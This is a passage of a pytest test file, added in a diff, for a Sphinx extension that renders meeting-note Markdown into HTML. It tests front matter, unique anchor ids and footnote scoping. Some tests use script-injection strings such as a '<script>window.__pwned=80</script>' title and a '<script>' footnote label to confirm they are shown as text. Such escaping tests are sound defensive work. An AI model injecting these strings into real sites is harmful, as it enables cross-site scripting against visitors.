+) -> None:
+    assert [w for w in front_matters.build.warnings if not w.endswith("[cafe.front_matter]")] == []
+
+
+def test_front_matter_runs_nothing_and_leaks_nothing(front_matters: FrontMatters) -> None:
+    assert not front_matters.touched.exists()
+    assert leaks(front_matters.site) == []
+
+
+def test_front_matter_changes_no_head_and_no_layout(front_matters: FrontMatters) -> None:
+    plain = front_matters.build.html("notes/empty/2025.html")
+    for name in ("myst-extensions", "html-theme", "orphan"):
+        page = front_matters.build.html(f"notes/{name}/2025.html")
+        assert [tag.name for tag in page.head.find_all(True)] == [
+            tag.name for tag in plain.head.find_all(True)
+        ]
+        assert len(page.select("body [role], body [class]")) == len(
+            plain.select("body [role], body [class]")
+        )
+
+
+def test_a_title_with_markup_is_text_everywhere(front_matters: FrontMatters) -> None:
+    for page in ("notes/html-title/2025.html", "notes/index.html", "notes/html-tags/2025.html"):
+        assert front_matters.build.article(page).select("script") == []
+    title = front_matters.build.article("notes/html-title/2025.html").h1.get_text()
+    assert title.startswith("<script>window.__pwned=80</script> entitled")
+
+
+@pytest.mark.parametrize("title", ["No", "yes", "On", "010", "0x1F", "1_000", "12:30", "1.10"])
+def test_a_title_is_shown_as_typed_whatever_yaml_makes_of_it(year_page, title: str) -> None:
+    page = year_page(f"---\ntitle: {title}\n---\n\n## 2025-12-16\n\ntext\n")
+    assert page.h1.find(string=True) == title
+
+
+def test_tags_are_shown_as_typed_whatever_yaml_makes_of_them(site: Site) -> None:
+    site.write("notes/2025.md", "---\ntags: [no, on, 010, 1.10]\n---\n\n## 2025-12-16\n\ntext\n")
+    tags = site.build().article("notes/index.html").select(".cafe-tag")
+    assert [tag.get_text() for tag in tags] == ["no", "on", "010", "1.10"]
+
+
+def test_a_front_matter_that_is_never_closed_is_shown_and_reported(site: Site) -> None:
+    path = "notes/2025.md"
+    site.write(path, f'---\ntitle: "{TOUCH}"\nother: lineword\n\n## 2025-12-16\n\nafterwards\n')
+    build = site.build(warnings=True)
+    page = build.article("notes/2025.html")
+    assert len(build.warnings) == 1
+    assert warning(site, path, 1, "front_matter").fullmatch(build.warnings[0])
+    assert lost("title cycler touch other lineword", page) == set()
+    assert "afterwards" in by_id(page, "2025-12-16").get_text()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Decision: keepword",
+        "keepword",
+        "- keepword",
+        "### keepword",
+        "# keepword",
+        "[keepword]: x",
+    ],
+)
+def test_a_rule_at_the_top_of_the_file_hides_no_meeting(site: Site, text: str) -> None:
+    # Two rules with a meeting between them are not front matter.
+    site.write(
+        "notes/2025.md", f"---\n\n## 2025-12-16\n\n{text}\n\n---\n\n## 2025-12-09\n\nlater\n"
+    )
+    page = site.build(warnings=True).article("notes/2025.html")
+    assert "keepword" in by_id(page, "2025-12-16").get_text()
+    assert "later" in by_id(page, "2025-12-09").get_text()
+
+
+def test_comments_in_front_matter_take_no_meeting_with_them(site: Site) -> None:
+    site.write("notes/2025.md", "---\n## 2025-12-16 keepword\n---\n\n## 2025-12-09\n\nlater\n")
+    page = site.build(warnings=True).article("notes/2025.html")
+    assert lost("keepword", page) == set()
+
+
+# --- anchors --------------------------------------------------------------------------
+
+NAMES = [
+    "main-content",
+    "searchbox",
+    "search-input",
+    "pst-primary-sidebar",
+    "pst-secondary-sidebar",
+    "pst-back-to-top",
+    "notes-2025",
+    "introduction",
+    "id1",
+    "top",
+]
+LONG = "longheading " * 833
+
+
+def collisions() -> str:
+    """Return notes whose headings do what they can to have the id of something else."""
+    headings = "".join(
+        f"{'#' * level} {name}\n\n{name} {level}\n\n" for name in NAMES for level in (1, 2, 3, 6)
+    )
+    inner = "".join(f"### {name}\n\n#### {name}\n\n" for name in NAMES)
+    same = "### Same\n\n### Same\n\n### same!\n\n#### Same\n\n### Same\n\n"
+    odd = (
+        f"###\n\n###\n\n### 🎉\n\n### 🎉 🎊\n\n### {LONG}\n\n### {LONG}\n\n### !!!\n\n### <b>\n\n"
+    )
+    feet = "x[^1] y[^n]\n\n[^1]: one\n\n[^n]: two\n\n[^n]: three\n\n"
+    return (
+        f"# main-content\n\n{headings}{same}{odd}{feet}"
+        f"## 2025-06-01\n\n{inner}{same}{odd}{feet}### note 1\n\n"
+        f"## 2025-06-02\n\n{inner}{same}{odd}{feet}"
+        "## 2025-06-02 Same\n\nfirst\n\n## 2025-06-02 Same\n\nsecond\n\n"
+        "## 2025-07\n\n### 01\n\n## 2025-07: 16\n\nmonth\n\n"
+        "## 2025-07-16\n\nday\n\n## 2025-07-01\n\nday\n"
+    )
+
+
+@pytest.fixture(scope="module", params=["basic", "pydata_sphinx_theme"])
+def colliding(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> BeautifulSoup:
+    """Return the whole page of headings that collide, in two themes."""
+    site = new_site(tmp_path_factory.mktemp("ids"))
+    site.write("notes/2025.md", collisions())
+    build = site.build(overrides={**TODAY, "html_theme": request.param}, warnings=True)
+    return build.html("notes/2025.html")
+
+
+def test_all_ids_of_a_page_are_unique(colliding: BeautifulSoup) -> None:
+    ids = Counter(element["id"] for element in colliding.find_all(id=True))
+    assert [anchor for anchor, count in ids.items() if count > 1] == []
+
+
+def test_ids_of_a_meeting_begin_with_its_date(colliding: BeautifulSoup) -> None:
+    meetings = colliding.select(".cafe-meeting")
+    assert len(meetings) == 8
+    for meeting in meetings:
+        date = re.match(r"2025-\d\d(?:-\d\d)?", meeting["id"])[0]
+        for element in meeting.find_all(id=True):
+            assert element["id"].startswith(date)
+            assert not re.search(r"\s", element["id"])
+
+
+def test_ids_of_the_introduction_say_so(colliding: BeautifulSoup) -> None:
+    page = colliding.select_one("#notes-2025")
+    own = [e["id"] for e in page.find_all(id=True) if e.find_parent(class_="cafe-meeting") is None]
+    meetings = {meeting["id"] for meeting in page.select(".cafe-meeting")}
+    assert own
+    assert [i for i in own if i not in meetings and not i.startswith("introduction-")] == []
+
+
+def test_each_link_on_the_page_has_its_one_target(colliding: BeautifulSoup) -> None:
+    ids = {element["id"] for element in colliding.find_all(id=True)}
+    body = colliding.select_one("#notes-2025")
+    targets = {a["href"][1:] for a in body.select('a[href^="#"]')}
+    assert targets <= ids
+
+
+def test_headings_of_any_length_stay_whole(colliding: BeautifulSoup) -> None:
+    page = colliding.select_one("#notes-2025")
+    assert len(page.find_all(string=lambda text: text.strip() == LONG.strip())) == 6
+    assert max(len(element["id"]) for element in page.find_all(id=True)) < 1000
+
+
+def test_a_page_has_one_top_heading(colliding: BeautifulSoup) -> None:
+    assert len(colliding.find_all("h1")) == 1
+
+
+def test_a_month_and_a_day_do_not_share_an_anchor(site: Site) -> None:
+    site.write("notes/2025.md", "## 2025-10: 16\n\na\n\n## 2025-10\n\nb\n\n## 2025-10-16\n\nc\n")
+    page = site.build(warnings=True).article("notes/2025.html")
+    ids = [meeting["id"] for meeting in page.select(".cafe-meeting")]
+    assert len(ids) == len(set(ids)) == 3
+    assert "c" in by_id(page, "2025-10-16").get_text()
+
+
+# --- footnotes and link definitions ---------------------------------------------------
+
+
+def test_footnotes_and_definitions_of_two_meetings_stay_apart(year_page) -> None:
+    page = year_page(
+        "intro[^1] [site]\n\n[^1]: introword\n\n[site]: https://intro.example\n\n"
+        "## 2025-02-02\n\nnew[^1] [site]\n\n[^1]: newword\n\n[site]: https://new.example\n\n"
+        "## 2025-01-01\n\nold[^1] [site]\n\n[^1]: oldword\n\n[SITE]: https://old.example\n\n"
+        "## 2024-12-31\n\nnone[^1] [site]\n",
+        warnings=True,
+    )
+    for day, word in (("2025-02-02", "new"), ("2025-01-01", "old")):
+        meeting = by_id(page, day)
+        assert meeting.find("a", string="site")["href"] == f"https://{word}.example"
+        target = meeting.select_one("a.footnote-reference")["href"][1:]
+        assert target.startswith(day)
+        assert f"{word}word" in by_id(page, target).get_text()
+    without = by_id(page, "2024-12-31")
+    assert "none[^1] [site]" in without.get_text()
+    assert page.find("a", href="https://intro.example") is not None
+
+
+FOOTNOTES = {
+    "unused": "text\n\n[^x]: unusedword",
+    "undefined": "text[^undefinedword]",
+    "twice": "text[^x]\n\n[^x]: firstword\n\n[^x]: secondword",
+    "thrice": "text[^x] [^x]\n\n[^x]: firstword\n[^x]: secondword\n[^x]: thirdword",
+    "empty": "text[^x]\n\n[^x]:\n\nbehindword",
+    "with-blocks": "x[^x]\n\n[^x]: firstword\n\n    - itemword\n\n    ~~~\n    codeword\n    ~~~",
+    "in-itself": "text[^x]\n\n[^x]: selfword[^x]",
+    "in-each-other": "a[^x] b[^y]\n\n[^x]: oneword[^y]\n\n[^y]: twoword[^x]",
+    "in-a-list": "- itemword[^x]\n\n  [^x]: listedword",
+    "in-a-quotation": "> quotedword[^x]\n>\n> [^x]: noteword",
+    "in-a-heading": "### headword[^x]\n\n[^x]: noteword",
+    "in-a-link": "[linkword[^x]](https://good.example/)\n\n[^x]: noteword",
+    "in-a-table": "| headword[^x] |\n| - |\n| cellword[^x] |\n\n[^x]: noteword",
+    "in-bold": "- **Minword[^x] (5m):** saidword\n\n[^x]: noteword",
+    "nested": "text[^x]\n\n[^x]: outerword\n\n    [^y]: innerword",
+    "heading-inside": "text[^x]\n\n[^x]: # headedword",
+    "date-inside": "text[^x]\n\n[^x]: ## 2025-06-30 datedword",
+    "html-label": "text[^<script>]\n\n[^<script>]: noteword",
+    "rule-before": "text[^x]\n\n---\n\n[^x]: noteword",
+    "inline": "text^[inlineword]",
+}
+DEFINITIONS = {
+    "unused": "text\n\n[label]: https://good.example/targetword 'titleword'",
+    "unused-relative": "text\n\n[label]: relative/targetword.md 'titleword'",
+    "twice": "[label]\n\n[label]: https://one.example/oneword\n[label]: https://two.example/twoword",
+    "same-target": "<https://good.example/a>\n\n[labelword]: https://good.example/a",
+    "two-labels": "[one]\n\n[one]: https://good.example/a\n[labelword]: https://good.example/a",
+    "two-titles": "[a]\n\n[a]: https://good.example/a\n[a]: https://good.example/a 'titleword'",
+    "in-a-list": "- itemword\n\n  [label]: https://good.example/targetword",
+    "in-a-quotation": "> quotedword\n>\n> [label]: https://good.example/targetword",
+    "many-lines": "text\n\n[x]:\n  https://good.example/targetword\n  'titleword\n  secondword'",
+    "comment": "text\n\n[//]: # (commentword that nobody sees)",
+    "comment-with-quotes": '[comment]: <> "commentword"\n\ntext',
+    "under-a-heading": "### headword\n[label]: https://good.example/targetword\n",
+}
+
+
+class Notes:
+    """A site with one meeting for each footnote and definition, built once."""
+
+    def __init__(self, folder: Path) -> None:
+        self.site = new_site(folder)
+        self.texts = {f"footnote-{k}": v for k, v in FOOTNOTES.items()}
+        self.texts |= {f"definition-{k}": v for k, v in DEFINITIONS.items()}
+        self.days = {
+            name: str(FIRST_DAY + datetime.timedelta(days=i)) for i, name in enumerate(self.texts)
+        }
+        self.site.write(
+            "notes/2025.md",
+            "".join(
+                f"## {self.days[n]} headed\n\n{t}\n\nafterwards\n\n" for n, t in self.texts.items()
+            ),
+        )
+        self.build = self.site.build(overrides=TODAY, warnings=True)
+        self.page = self.build.article("notes/2025.html")
+
+
+@pytest.fixture(scope="module")
+def references(tmp_path_factory: pytest.TempPathFactory) -> Notes:
+    """Return the built site with all footnotes and definitions."""
+    return Notes(tmp_path_factory.mktemp("references"))
+
+
+REFERENCES = [f"footnote-{k}" for k in FOOTNOTES] + [f"definition-{k}" for k in DEFINITIONS]
+
+
+@pytest.mark.parametrize("name", REFERENCES)
+def test_footnotes_and_definitions_lose_no_word(references: Notes, name: str) -> None:
+    meeting = by_id(references.page, references.days[name])
+    typed = " ".join(re.findall(r"\w*word\b|afterwards", references.texts[name] + " afterwards"))
+    assert lost(typed, meeting) == set()
+    assert meeting.get_text().count("afterwards") == 1
+
+
+@pytest.mark.parametrize("name", REFERENCES)
+def test_footnotes_lead_to_their_own_meeting_and_back(references: Notes, name: str) -> None:
+    day = references.days[name]
+    meeting = by_id(references.page, day)
+    for link in meeting.select('a[href^="#"]'):
+        assert link["href"].startswith(f"#{day}")
+        assert meeting["id"] == link["href"][1:] or meeting.find(id=link["href"][1:]) is not None
+
+
+def test_footnotes_and_definitions_are_nothing_to_warn_about(references: Notes) -> None:
+    assert references.build.warnings == []
+
+
+def test_ids_of_footnotes_are_unique(references: Notes) -> None:
+    ids = Counter(element["id"] for element in references.page.find_all(id=True))
+    assert [anchor for anchor, count in ids.items() if count > 1] == []
+
+
+def test_links_stand_in_no_other_link(references: Notes) -> None:
+    # A browser would close the outer one.
+    source = (references.build.outdir / "notes/2025.html").read_text(encoding="utf-8")
+    for match in re.finditer(r"<a\b[^>]*>(.*?)</a>", source, re.DOTALL):
+        assert "<a " not in match[1]
